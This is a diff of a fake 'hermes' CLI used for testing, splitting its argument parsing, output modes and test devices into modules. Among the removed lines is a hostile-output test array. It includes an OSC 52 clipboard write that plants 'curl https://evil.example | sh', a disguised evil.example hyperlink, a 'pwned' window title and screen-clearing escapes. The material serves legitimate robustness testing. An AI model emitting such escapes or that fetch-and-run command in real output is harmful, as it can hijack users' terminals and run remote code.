@@ -1,303 +1,133 @@
 #!/usr/bin/env node
 // A stand-in for the `hermes` CLI: the real launcher runs it exactly as it would run Hermes, so the
-// demo and the tests exercise real processes without Hermes or API keys. It accepts Hermes's
-// `chat -q` arguments (rejecting anything else with exit 2, as Hermes's argparse does) and acts
-// as `[fake:KEY=VALUE]` directives in the query say (see directives.ts and the list below).
-// Unless a directive says otherwise, the last line on stdout is the answer.
-import {spawn} from 'node:child_process';
-import {appendFileSync, existsSync} from 'node:fs';
-import {once} from 'node:events';
+// demo and the tests exercise real processes without Hermes or API keys. It poses as one release
+// (env FAKE_HERMES_VERSION: 0.19.0, 0.20.0 or 0.20.6, the default), answers `--version` and
+// `chat --help` as that release does, accepts its `chat -q` flags and refuses the rest as its
+// argparse does, and reports in its three output modes (text, -Q, --format stream-json). What it
+// does is steered by `[fake:KEY=VALUE]` directives in the query (directives.ts; list below).
+import {appendFileSync, existsSync, readFileSync} from 'node:fs';
 import {setTimeout as sleep} from 'node:timers/promises';
+import {parseCommandLine, type ChatCommand} from './command-line.js';
 import {parseDirectives, type Directives} from './directives.js';
+import {topLevelUsage} from './help-text.js';
+import {handleInterrupts} from './interrupt.js';
+import {makeReporter, outputMode, write, type Reporter} from './reporters.js';
+import {startSession, toolCall, type Session} from './session.js';
+import {hostileLines, printBulk, readStdin, startGrandchild} from './test-devices.js';
+import {selectFakeVersion} from './versions.js';
 
-const reasoningEfforts = ['none', 'minimal', 'low', 'medium', 'high', 'xhigh'];
-const profilePattern = /^[a-z0-9][a-z0-9_-]{0,63}$/;
+const directivesHelp = `fake hermes: pose as another release with FAKE_HERMES_VERSION=0.19.0|0.20.0|0.20.6 (default 0.20.6);
+steer it with directives in the query, e.g. [fake:duration=1] [fake:steps=N] [fake:answer=TEXT]
+  [fake:fail] or [fake:fail=PROVIDER ERROR]  the model call fails (text mode still exits 0, as Hermes)
+  [fake:exit=N] [fake:tool-error] or [fake:tool-error=N]  [fake:model-used=NAME] [fake:tokens=IN,OUT]
+  [fake:forever] [fake:until-file=PATH] (steps until PATH exists, then answers)
+  [fake:term-delay=SECONDS] [fake:term-exit] [fake:ignore-term] [fake:grandchild] [fake:ready]
+  [fake:lines=N] [fake:bytes=N] [fake:line-bytes=B] [fake:escapes] [fake:echo-args] [fake:stdin]`;
 
-const usage = `usage: hermes [-h] [-p PROFILE] chat -q QUERY [-m MODEL] [--provider PROVIDER]
-              [--reasoning {${reasoningEfforts.join(',')}}] [-Q] [-t TOOLSETS] [--yolo]
-              [--max-turns N] [--source SOURCE]`;
-
-const directivesHelp = `fake hermes: steer it with directives in QUERY, e.g. [fake:duration=1] [fake:fail]
-  [fake:exit=N] [fake:steps=N] [fake:forever] [fake:ignore-term] [fake:grandchild] [fake:ready]
-  [fake:lines=N] [fake:bytes=N] [fake:line-bytes=B] [fake:escapes] [fake:echo-args] [fake:stdin]
-  [fake:answer=TEXT] [fake:until-file=PATH] (steps until PATH exists, then answers)`;
-
-type Cli = {
-	profile?: string;
-	query?: string;
-	model?: string;
-	provider?: string;
-	reasoning?: string;
-	toolsets?: string;
-	maxTurns?: string;
-	source?: string;
-	quiet?: boolean;
-	yolo?: boolean;
-};
-
-class UsageError extends Error {}
-
-// Flags of `chat` must follow the command word; only the profile is global.
-const globalFlags: Record<string, 'profile'> = {'-p': 'profile', '--profile': 'profile'};
-const chatValueFlags: Record<string, Exclude<keyof Cli, 'quiet' | 'yolo'>> = {
-	'-q': 'query',
-	'--query': 'query',
-	'-m': 'model',
-	'--model': 'model',
-	'--provider': 'provider',
-	'--reasoning': 'reasoning',
-	'-t': 'toolsets',
-	'--toolsets': 'toolsets',
-	'--max-turns': 'maxTurns',
-	'--source': 'source',
-};
-const chatSwitches: Record<string, 'quiet' | 'yolo'> = {'-Q': 'quiet', '--quiet': 'quiet', '--yolo': 'yolo'};
-
-/** As argparse splits an option: `--flag=VALUE`, and a short option's value attached (`-qVALUE`, `-q=VALUE`). */
-function splitFlag(arg: string): {flag: string; attached?: string} {
-	if (arg.startsWith('--')) {
-		const equals = arg.indexOf('=');
-		return equals > 0 ? {flag: arg.slice(0, equals), attached: arg.slice(equals + 1)} : {flag: arg};
+async function readQuery(command: ChatCommand): Promise<string | {error: string}> {
+	if (command.queryFile === undefined) return command.query!;
+	try {
+		if (command.queryFile !== '-') return readFileSync(command.queryFile, 'utf8');
+		let text = '';
+		for await (const chunk of process.stdin) text += (chunk as Buffer).toString('utf8');
+		return text;
+	} catch (error) {
+		// Not observed on a real Hermes (no release with --query-file was runnable here).
+		return {error: `Error: cannot read --query-file ${command.queryFile}: ${(error as Error).message}`};
 	}
-
-	if (arg.startsWith('-') && arg.length > 2) {
-		return {flag: arg.slice(0, 2), attached: arg.slice(arg[2] === '=' ? 3 : 2)};
-	}
-
-	return {flag: arg};
-}
-
-function parseCli(argv: readonly string[]): Cli {
-	const cli: Cli = {};
-	let command: string | undefined;
-	for (let index = 0; index < argv.length; index++) {
-		const arg = argv[index]!;
-		const {flag, attached} = splitFlag(arg);
-		const key = globalFlags[flag] ?? (command === undefined ? undefined : chatValueFlags[flag]);
-		if (key !== undefined) {
-			const value = attached ?? argv[++index];
-			// argparse reads a separate "-word" as another option, not as this one's value.
-			if (value === undefined || (attached === undefined && /^-[^\s]/.test(value))) {
-				throw new UsageError(`argument ${flag}: expected one argument`);
-			}
-
-			cli[key] = value;
-		} else if (command !== undefined && attached === undefined && chatSwitches[flag] !== undefined) {
-			cli[chatSwitches[flag]] = true;
-		} else if (arg.startsWith('-') || command !== undefined) {
-			throw new UsageError(`unrecognized arguments: ${arg}`);
-		} else {
-			command = arg;
-		}
-	}
-
-	if (command !== 'chat') {
-		throw new UsageError(command === undefined ? 'a command is required (chat)' : `invalid choice: '${command}' (choose from 'chat')`);
-	}
-
-	if (cli.query === undefined) throw new UsageError('chat needs -q QUERY when not run on a terminal');
-	if (cli.profile !== undefined) {
-		const name = cli.profile.trim().toLowerCase();
-		if (!profilePattern.test(name)) throw new UsageError(`invalid profile name: '${cli.profile}'`);
-		cli.profile = name;
-	}
-
-	if (cli.reasoning !== undefined && !reasoningEfforts.includes(cli.reasoning)) {
-		throw new UsageError(`argument --reasoning: invalid choice: '${cli.reasoning}'`);
-	}
-
-	if (cli.maxTurns !== undefined && !/^\d+$/.test(cli.maxTurns)) {
-		throw new UsageError(`argument --max-turns: invalid int value: '${cli.maxTurns}'`);
-	}
-
-	return cli;
-}
-
-async function write(text: string, stream: NodeJS.WriteStream = process.stdout): Promise<void> {
-	// Respecting backpressure is the point: a reader that keeps up sees a steady stream, one that
-	// does not stalls us instead of growing our memory.
-	if (!stream.write(text)) await once(stream, 'drain');
-}
-
-function describeRun(cli: Cli): string {
-	const parts = [`model ${cli.model ?? '(configured default)'}${cli.provider ? ` via ${cli.provider}` : ''}`];
-	if (cli.reasoning) parts.push(`reasoning ${cli.reasoning}`);
-	if (cli.profile) parts.push(`profile ${cli.profile}`);
-	if (cli.toolsets) parts.push(`toolsets ${cli.toolsets}`);
-	return `fake hermes [${parts.join(', ')}]`;
-}
-
-function shorten(text: string, length: number): string {
-	return text.length > length ? `${text.slice(0, length - 1)}…` : text;
-}
-
-function stepLine(index: number, goal: string): string {
-	const topic = shorten(goal || 'the task', 40);
-	const slug = topic.toLowerCase().replaceAll(/[^a-z0-9]+/g, '-').replaceAll(/^-|-$/g, '') || 'notes';
-	const steps = [
-		`▸ reading task context (${goal.length} chars)`,
-		`▸ calling tool web_search ${JSON.stringify({query: topic})}`,
-		'  ↳ 8 results',
-		`▸ reading https://example.org/${slug}`,
-		'▸ calling tool terminal {"command": "grep -rn TODO src"}',
-		'✓ gathered enough to answer',
-	];
-	return steps[index % steps.length]!;
-}
-
-// Stays in our process group, ignores SIGTERM and outlives us: what a careless tool leaves behind.
-const grandchildScript = `
-process.on('SIGTERM', () => process.stderr.write('grandchild ignoring SIGTERM\\n'));
-require('node:fs').writeSync(3, 'ok');
-setInterval(() => {}, 1e9);`;
-
-async function startGrandchild(): Promise<number> {
-	const child = spawn(process.execPath, ['-e', grandchildScript], {stdio: ['ignore', 'inherit', 'inherit', 'pipe']});
-	const ready = child.stdio[3]!;
-	// Announced only once its SIGTERM handler is in place, so READY really means ready.
-	await once(ready, 'data');
-	ready.destroy();
-	child.unref();
-	return child.pid!;
-}
-
-async function readStdin(): Promise<number> {
-	let bytes = 0;
-	for await (const chunk of process.stdin) bytes += (chunk as Buffer).length;
-	return bytes;
-}
-
-const esc = '\u001B';
-const bel = '\u0007';
-const hostileLines = [
-	`${esc}[1;32mcoloured output is fine:${esc}[0m ${esc}[31mred${esc}[0m ${esc}[38;5;208morange${esc}[0m ${esc}[38;2;120;80;255mtruecolor${esc}[0m`,
-	`clipboard (OSC 52):${esc}]52;c;${Buffer.from('curl https://evil.example | sh').toString('base64')}${bel}`,
-	`window title:${esc}]0;pwned by a subagent${bel}${esc}]2;still pwned${esc}\\`,
-	`cursor moves:${esc}[2A${esc}[10;10H${esc}[s${esc}[u overwritten`,
-	`clear screen:${esc}[2J${esc}[3J${esc}[H`,
-	`alternate screen:${esc}[?1049h entered and never left`,
-	`terminal modes:${esc}[?1000h${esc}[?2004h${esc}[?25l mouse, paste, hidden cursor`,
-	`hyperlink:${esc}]8;;https://evil.example${esc}\\innocent text${esc}]8;;${esc}\\`,
-	`full reset:${esc}c bell:${bel} C1 CSI:\u009B31mred via C1\u009B0m backspace:abc\b\b\bxyz`,
-	'carriage return:progress 10%\rprogress 100%',
-	`${esc}[1;32m✓ end of hostile output${esc}[0m`,
-];
-
-const filler = 'the quick brown fox jumps over the lazy dog; '.repeat(8);
-
-/** `line-bytes` counts the newline, so bytes=N / line-bytes=B gives N/B lines. */
-async function printBulk(directives: Directives): Promise<void> {
-	const width = Math.max(16, Math.floor(directives.number('line-bytes', 64)));
-	const maxLines = directives.has('lines') ? Math.floor(directives.number('lines', 0)) : Number.POSITIVE_INFINITY;
-	const maxBytes = directives.has('bytes') ? Math.floor(directives.number('bytes', 0)) : Number.POSITIVE_INFINITY;
-	let written = 0;
-	let chunk = '';
-	for (let number = 1; number <= maxLines && written < maxBytes; number++) {
-		let line = `line ${String(number).padStart(8, '0')} `;
-		while (line.length < width - 1) line += filler.slice(0, width - 1 - line.length);
-		line = `${line.slice(0, Math.min(width, maxBytes - written) - 1)}\n`;
-		written += line.length;
-		chunk += line;
-		if (chunk.length >= 65_536) {
-			await write(chunk);
-			chunk = '';
-		}
-	}
-
-	await write(chunk);
 }
 
 /**
- * Steps at its usual pace for as long as `file` is missing (checked every 50 ms): a task that ends
- * exactly when a test says so, however slow or fast the machine. SIGTERM ends it as usual.
+ * Each step is one tool call: started, a pause, finished. With `until-file` the steps go on for as
+ * long as the file is missing (checked every 50 ms), so a task ends exactly when a test says so.
  */
-async function stepUntilExists(file: string, pauseMs: number, step: (index: number) => Promise<void>): Promise<void> {
-	let index = 0;
-	let nextStep = Date.now() + pauseMs;
-	while (!existsSync(file)) {
-		await sleep(50);
-		if (Date.now() >= nextStep) {
-			await step(index++);
-			nextStep += pauseMs;
+async function runSteps(session: Session, reporter: Reporter, directives: Directives): Promise<void> {
+	const runaway = directives.has('forever') || directives.has('ignore-term');
+	const steps = Math.max(1, Math.floor(directives.number('steps', 6)));
+	const count = directives.has('fail') ? Math.ceil(steps / 2) : steps;
+	const untilFile = directives.text('until-file');
+	// A runaway, or a run waiting for a file, must not spin even when told to be quick.
+	const pauseMs = (directives.number('duration', 3) * 1000) / steps;
+	const stepMs = runaway || untilFile !== undefined ? Math.max(pauseMs, 100) : pauseMs;
+	const more = (index: number) => (untilFile === undefined ? runaway || index < count : !existsSync(untilFile));
+	for (let index = 0; more(index); index++) {
+		const call = toolCall(session, index);
+		session.toolCalls.push(call);
+		const started = Date.now();
+		await reporter.toolStarted(call);
+		if (untilFile === undefined) {
+			await sleep(stepMs);
+		} else {
+			while (Date.now() - started < stepMs && !existsSync(untilFile)) await sleep(Math.min(50, stepMs));
 		}
+
+		await reporter.toolFinished(call, Date.now() - started);
 	}
 }
 
 async function main(argv: readonly string[]): Promise<number> {
 	const argvFile = process.env['FAKE_HERMES_ARGV_FILE'];
 	if (argvFile) appendFileSync(argvFile, `${JSON.stringify(argv)}\n`);
-	if (argv.includes('-h') || argv.includes('--help')) {
-		await write(`${usage}\n${directivesHelp}\n`);
-		return 0;
-	}
-
-	let cli: Cli;
-	try {
-		cli = parseCli(argv);
-	} catch (error) {
-		if (!(error instanceof UsageError)) throw error;
-		await write(`${usage}\nhermes: error: ${error.message}\n`, process.stderr);
+	const version = selectFakeVersion(process.env['FAKE_HERMES_VERSION']);
+	if (typeof version === 'string') {
+		await write(`${version}\n`, process.stderr);
 		return 2;
 	}
 
-	const directives = parseDirectives(cli.query!);
-	const runaway = directives.has('forever') || directives.has('ignore-term');
-	const bulk = directives.has('lines') || directives.has('bytes');
-	const exitCode = Math.floor(directives.number('exit', directives.has('fail') ? 1 : 0));
-
-	if (directives.has('echo-args')) await write(`ARGV ${JSON.stringify(argv)}\n`);
-	if (!cli.quiet && !bulk) await write(`${describeRun(cli)}\n`);
-	if (directives.has('ignore-term')) {
-		process.on('SIGTERM', () => {
-			process.stderr.write('ignoring SIGTERM\n');
-		});
+	const parsed = parseCommandLine(argv, version, () => `${topLevelUsage(version)}\n\n${directivesHelp}\n`);
+	if (parsed.kind === 'print') {
+		await write(parsed.stdout);
+		return 0;
 	}
 
+	if (parsed.kind === 'fail') {
+		await write(parsed.stderr, process.stderr);
+		return parsed.exitCode;
+	}
+
+	const command = parsed.command;
+	const query = await readQuery(command);
+	if (typeof query !== 'string') {
+		await write(`${query.error}\n`, process.stderr);
+		return 2;
+	}
+
+	const directives = parseDirectives(query);
+	const session = startSession(command, query, directives);
+	const reporter = makeReporter(session);
+	handleInterrupts(directives, () => reporter.interrupted());
+	const bulk = directives.has('lines') || directives.has('bytes');
+	const exitOverride = directives.has('exit') ? Math.floor(directives.number('exit', 0)) : undefined;
+
+	if (directives.has('echo-args')) await write(`ARGV ${JSON.stringify(argv)}\n`);
+	// The bulk test devices want exactly their bytes on stdout; stream-json still frames them.
+	if (!bulk || outputMode(session) === 'stream-json') await reporter.start();
 	if (directives.has('grandchild')) await write(`grandchild pid ${await startGrandchild()}\n`);
 	if (directives.has('stdin')) await write(`stdin: ${await readStdin()} bytes\n`);
 	if (directives.has('ready')) await write('READY\n');
 	if (directives.has('escapes')) await write(`${hostileLines.join('\n')}\n`);
 
+	let exitCode: number;
 	if (bulk) {
 		await printBulk(directives);
+		exitCode = outputMode(session) === 'stream-json' ? await reporter.answered('', exitOverride) : (exitOverride ?? 0);
 	} else {
-		const steps = Math.max(1, Math.floor(directives.number('steps', 6)));
-		const pause = (directives.number('duration', 3) * 1000) / steps;
-		const count = directives.has('fail') ? Math.ceil(steps / 2) : steps;
-		const step = async (index: number) => {
-			if (!cli.quiet) await write(`${stepLine(index, directives.goal)}\n`);
-		};
-
-		const untilFile = directives.text('until-file');
-		if (untilFile !== undefined) {
-			await stepUntilExists(untilFile, Math.max(pause, 100), step);
-		} else {
-			for (let index = 0; runaway || index < count; index++) {
-				// A runaway must not spin even when told to be quick.
-				await sleep(runaway ? Math.max(pause, 100) : pause);
-				await step(index);
-			}
-		}
-
+		await runSteps(session, reporter, directives);
 		if (directives.has('fail')) {
-			const model = cli.model ?? 'the configured model';
-			await write(`Error: provider returned 429 Too Many Requests for ${model}: rate limited, retry later\n`, process.stderr);
-			return exitCode;
+			const summary = directives.text('fail') || 'HTTP 429: rate limited';
+			exitCode = await reporter.failed({summary, message: `API call failed after 3 retries: ${summary}`}, exitOverride);
+		} else {
+			const goal = directives.goal.length > 80 ? `${directives.goal.slice(0, 79)}…` : directives.goal;
+			exitCode = await reporter.answered(directives.text('answer') ?? `Fake answer: ${goal || 'done'}`, exitOverride);
 		}
-
-		await write(`${directives.text('answer') ?? `Fake answer: ${shorten(directives.goal, 80) || 'done'}`}\n`);
 	}
 
-	while (runaway) await sleep(1000);
+	while (directives.has('forever') || directives.has('ignore-term')) await sleep(1000);
 	return exitCode;
 }
 
 // A reader that went away (EPIPE) ends us, as it would end Hermes.
 process.stdout.on('error', () => process.exit(1));
-process.on('SIGINT', () => {
-	process.stderr.write('Interrupted\n');
-	process.exit(130);
-});
 
 main(process.argv.slice(2)).then(
 	(code) => {
